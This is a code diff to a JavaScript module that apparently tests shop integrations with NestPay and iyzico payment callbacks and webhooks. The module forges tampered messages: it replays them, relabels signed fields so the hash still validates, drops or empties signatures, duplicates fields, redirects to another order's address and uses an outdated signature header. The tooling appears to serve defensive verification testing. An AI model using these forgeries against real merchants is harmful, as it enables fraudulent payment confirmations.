@@ -9,6 +9,7 @@ import { signedFields, upperAscii } from './nestpay-hash.js';
 const isForm = (message) => message.headers['content-type'] === 'application/x-www-form-urlencoded';
 const isWebhook = (message) => message.kind === 'webhook';
 const isCallback = (message) => message.system === 'nestpay';
+const isSigned = (message) => message.system !== 'iyzico' || isWebhook(message);
 
 /** In the order of the panel. `fits` tells for which messages an attack makes sense. */
 export const ATTACKS = [
@@ -18,38 +19,50 @@ export const ATTACKS = [
     name: 'relabel', tr: 'Alanları yeniden adlandır (imza geçerli kalır)', en: 'Relabel the fields (the digest stays valid)',
     fits: (message) => isCallback(message) && !message.body.includes('HASHPARAMS'),
   },
-  { name: 'drop-signature', tr: 'İmzayı çıkar', en: 'Drop the signature', fits: (message) => message.system !== 'iyzico' || isWebhook(message) },
-  { name: 'empty-signature', tr: 'İmzayı boşalt', en: 'Empty the signature', fits: (message) => message.system !== 'iyzico' || isWebhook(message) },
+  { name: 'drop-signature', tr: 'İmzayı çıkar', en: 'Drop the signature', fits: isSigned },
+  { name: 'empty-signature', tr: 'İmzayı boşalt', en: 'Empty the signature', fits: isSigned },
   { name: 'duplicate', tr: 'Bir alanı iki kez gönder', en: 'Send a field twice', fits: () => true, needs: ['field', 'value'] },
-  { name: 'elsewhere', tr: 'Başka bir siparişin adresine gönder', en: 'Send to the address of another order', fits: () => true, needs: ['url'] },
+  {
+    name: 'elsewhere', tr: 'Başka bir siparişin adresine gönder', en: 'Send to the address of another order', fits: () => true,
+    needs: ['url'],
+  },
   {
     name: 'resplit', tr: 'status ile total_amount sınırını kaydır (imza geçerli kalır)',
     en: 'Move the border of status and total_amount (the digest stays valid)',
     fits: (message) => message.kind === 'notification',
   },
-  { name: 'old-header', tr: 'Eski imza başlığıyla gönder (X-Iyz-Signature)', en: 'Send under the old signature header (X-Iyz-Signature)', fits: isWebhook },
+  {
+    name: 'old-header', tr: 'Eski imza başlığıyla gönder (X-Iyz-Signature)', en: 'Send under the old signature header (X-Iyz-Signature)',
+    fits: isWebhook,
+  },
 ];
 
 /**
  * @param {Message} message
  * @param {{ attack: string, field?: string, value?: string, url?: string }} order
- * @returns {Sent & { note: string }}
+ * @returns {Sent & { missing?: string[] }} `missing`: what relabelling could not keep or make
  */
 export function forge(message, { attack, field = '', value = '', url = '' }) {
   const chosen = ATTACKS.find(({ name }) => name === attack);
   if (!chosen?.fits(message)) throw new Error('this attack does not fit this message');
   const { headers, body } = message;
-  const same = { url: message.url, headers, body, note: '' };
+  const same = { url: message.url, headers, body };
+  const signedByHeader = isWebhook(message);
   switch (attack) {
     case 'replay': return same;
     case 'edit': return { ...same, body: edited(message, field, value) };
     case 'relabel': return { ...same, ...relabelled(body) };
-    case 'drop-signature': return isWebhook(message) ? { ...same, headers: without(headers, SIGNATURE_HEADER) } : { ...same, body: dropped(body, 'HASH') };
-    case 'empty-signature': return isWebhook(message) ? { ...same, headers: { ...headers, [SIGNATURE_HEADER]: '' } } : { ...same, body: changed(body, 'HASH', '') };
+    case 'drop-signature':
+      if (signedByHeader) return { ...same, headers: without(headers, SIGNATURE_HEADER) };
+      return { ...same, body: dropped(body, 'HASH') };
+    case 'empty-signature':
+      if (signedByHeader) return { ...same, headers: { ...headers, [SIGNATURE_HEADER]: '' } };
+      return { ...same, body: changed(body, 'HASH', '') };
     case 'duplicate': return { ...same, body: doubled(message, field, value) };
     case 'elsewhere': return { ...same, url };
     case 'resplit': return { ...same, body: resplit(body) };
-    default: return { ...same, headers: { ...without(headers, SIGNATURE_HEADER), 'x-iyz-signature': headers[SIGNATURE_HEADER] ?? '' } };
+    default:
+      return { ...same, headers: { ...without(headers, SIGNATURE_HEADER), 'x-iyz-signature': headers[SIGNATURE_HEADER] ?? '' } };
   }
 }
 
@@ -61,7 +74,8 @@ const without = (headers, name) => Object.fromEntries(Object.entries(headers).fi
 const isNamed = (part, name) => upperAscii(decodeURIComponent(part.split('=')[0])) === upperAscii(name);
 const joined = (name, value) => `${encodeURIComponent(name)}=${encodeURIComponent(value)}`;
 
-const changed = (body, name, value) => body.split('&').map((part) => (isNamed(part, name) ? `${part.split('=')[0]}=${encodeURIComponent(value)}` : part)).join('&');
+const changed = (body, name, value) =>
+  body.split('&').map((part) => (isNamed(part, name) ? `${part.split('=')[0]}=${encodeURIComponent(value)}` : part)).join('&');
 const dropped = (body, name) => body.split('&').filter((part) => !isNamed(part, name)).join('&');
 const valueIn = (body, name) => decodeURIComponent(body.split('&').find((part) => isNamed(part, name))?.split('=')[1] ?? '');
 
@@ -72,7 +86,8 @@ function edited(message, field, value) {
 }
 
 function doubled(message, field, value) {
-  return isForm(message) ? `${message.body}&${joined(field, value)}` : message.body.replace(/^\{/, `{${JSON.stringify(field)}:${JSON.stringify(value)},`);
+  if (isForm(message)) return `${message.body}&${joined(field, value)}`;
+  return message.body.replace(/^\{/, () => `{${JSON.stringify(field)}:${JSON.stringify(value)},`);
 }
 
 /** 'success' + '1050' and 'success1' + '050' are the same text once they are joined. */
@@ -93,28 +108,28 @@ const IDENTITY = ['clientid', 'oid', 'amount', 'currency'];
 const OTHER_ANCHORS = ['failUrl', 'hashAlgorithm', 'lang', 'okUrl', 'storetype', 'taksit', 'TranType', 'islemtipi'];
 
 /**
- * The same values under other names, in the same order: as many as possible of the names that a shop looks at keep what it expects, and the
- * decision fields get what they need, if the message contains it at all.
+ * The same values under other names, in the same order: as many as possible of the names that a shop looks at keep what it expects,
+ * and the decision fields get what they need, if the message contains it at all.
  * @param {string} body
- * @returns {{ body: string, note: string }}
+ * @returns {{ body: string, missing: string[] }}
  */
 export function relabelled(body) {
   const fields = parseForm(Buffer.from(body, 'latin1'));
   const signed = signedFields(fields);
   const value = (name) => fields.find(([each]) => each === name)?.[1];
   const pays = value('storetype')?.toLowerCase().startsWith('3d_pay');
+  const decisions = Object.entries(DECISIONS).filter(([name]) => pays || name === 'mdStatus');
   const wanted = [
-    ...Object.entries(DECISIONS).filter(([name]) => pays || name === 'mdStatus').map(([name, text]) => ({ name, text, weight: 1000 })),
+    ...decisions.map(([name, text]) => ({ name, text, weight: 1000 })),
     ...IDENTITY.map((name) => ({ name, text: value(name), weight: 50 })),
     ...OTHER_ANCHORS.map((name) => ({ name, text: value(name), weight: 1 })),
   ].filter(({ text }) => text !== undefined).sort((a, b) => (upperAscii(a.name) < upperAscii(b.name) ? -1 : 1));
   const kept = heaviestMatch(signed.map(([, text]) => text), wanted);
   const named = nameThem(signed, kept);
   const unsigned = fields.filter((field) => !signed.includes(field));
-  const missing = wanted.filter((each) => !kept.includes(each)).map(({ name }) => name);
   return {
     body: [...named, ...unsigned].map(([name, text]) => joined(name, text)).join('&'),
-    note: missing.length === 0 ? 'every field a shop looks at has the wanted value' : `could not be kept or made: ${missing.join(', ')}`,
+    missing: wanted.filter((each) => !kept.includes(each)).map(({ name }) => name),
   };
 }
 
